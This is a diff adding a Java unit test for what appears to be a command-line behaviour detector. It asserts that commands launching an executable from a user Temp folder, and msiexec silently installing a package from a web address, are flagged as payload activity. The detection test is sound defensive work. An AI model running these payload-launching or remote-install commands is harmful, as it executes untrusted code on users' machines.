@@ -134,6 +134,16 @@ class BehavioursTest {
     }
 
     @Test
+    void theTempFolderNamedByItsVariableIsADropFolderAsItsPathIs() {
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c C:\\Users\\dev\\AppData\\Local\\Temp\\upd.exe /silent", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %LOCALAPPDATA%\\Temp\\upd.exe /silent", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "powershell -c \"& $env:TEMP\\upd.exe\"", true)).isTrue();
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "powershell -c \"& $env:LOCALAPPDATA\\Temp\\x\\upd.exe\"", true)).isTrue();
+        // per-user installs live in AppData outside its Temp folder
+        assertThat(Behaviours.shows(Family.USER_PATH_PAYLOAD, "cmd /c %LOCALAPPDATA%\\Programs\\Editor\\editor.exe --reuse", true)).isFalse();
+    }
+
+    @Test
     void msiexecFromAWebAddressCountsWhenUnattendedOrNotAPackage() {
         assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec /q /i https://files.example.net/agent.msi", true)).isTrue();
         assertThat(Behaviours.shows(Family.REMOTE_PAYLOAD, "msiexec.exe /i https://files.example.net/agent.msi /quiet", true)).isTrue();
